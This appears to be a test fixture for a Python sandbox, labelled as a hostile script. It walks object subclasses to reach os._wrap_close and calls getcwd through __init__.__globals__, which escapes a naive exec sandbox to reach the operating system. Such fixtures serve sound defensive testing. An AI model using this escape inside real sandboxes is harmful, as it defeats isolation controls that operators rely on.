# ruff: noqa - a hostile script, kept as written
# threat: 1 reach the operating system
# technique: object.__subclasses__() -> os._wrap_close.__init__.__globals__ -> os.getcwd()
# naive exec: escapes: a tuple literal reaches object, whose subclasses include os._wrap_close
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":
        result = "ESCAPED cwd=" + cls.__init__.__globals__["getcwd"]()
